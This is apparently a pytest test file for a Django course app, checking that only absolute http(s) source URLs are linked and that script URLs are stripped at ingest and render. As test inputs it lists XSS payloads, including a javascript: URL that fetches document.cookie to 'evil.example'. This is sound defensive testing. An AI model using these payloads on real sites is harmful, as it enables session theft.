"""Issue 10 item 4: a source's URL becomes a link only when it is http(s); script URLs are dropped on the way in
and never rendered, even when they are already stored."""

import pytest

from content import services
from content.models import Lesson, Source
from content.rendering import http_url

pytestmark = pytest.mark.django_db

BODY = "\n\n".join(
    f"Paragraph {i} explains how a language model predicts the next token from the ones before it." for i in range(6)
)


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(document.cookie)",
        " JavaScript:alert(1)",
        "java\tscript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:x",
        "//evil.example/x",
        "/x",
    ],
)
def test_only_absolute_http_urls_pass(url):
    assert http_url(url) == ""


def test_http_urls_pass_unchanged():
    assert http_url("https://example.org/a?b=1") == "https://example.org/a?b=1"
    assert http_url("http://example.org") == "http://example.org"


def test_a_javascript_url_in_front_matter_is_not_stored_nor_linked(client, alice):
    course = services.course_get_or_create(slug="uploads", title="Uploads")
    planted_url = "javascript:fetch('//evil.example/'+document.cookie)"
    text = f'---\ntitle: Planted\nurl: "{planted_url}"\n---\n# Planted\n\n{BODY}\n'
    report = services.file_ingest(course=course, name="planted.md", data=text.encode())
    assert report.status == "ingested", report.reason
    assert Source.objects.get(name="planted.md").url == ""
    lesson = Lesson.objects.get(course=course)
    assert lesson.citations[0]["url"] == ""
    client.force_login(alice)
    page = client.get(lesson.get_absolute_url()).text
    assert "javascript:" not in page and "Planted" in page


def test_a_script_url_stored_before_the_fix_is_shown_as_text(client, alice):
    course = services.course_get_or_create(slug="uploads", title="Uploads")
    services.file_ingest(course=course, name="old.md", data=f"---\ntitle: Old\n---\n# Old\n\n{BODY}\n".encode())
    lesson = Lesson.objects.get(course=course)
    lesson.citations = [
        {"title": "Old source", "url": "javascript:alert(1)", "file": "old.md", "author": ""},
        {"title": "Good source", "url": "https://example.org/paper", "file": "g.md", "author": ""},
    ]
    lesson.save()
    client.force_login(alice)
    page = client.get(lesson.get_absolute_url()).text
    assert "javascript:" not in page and "<cite>Old source</cite>" in page
    assert 'href="https://example.org/paper"' in page
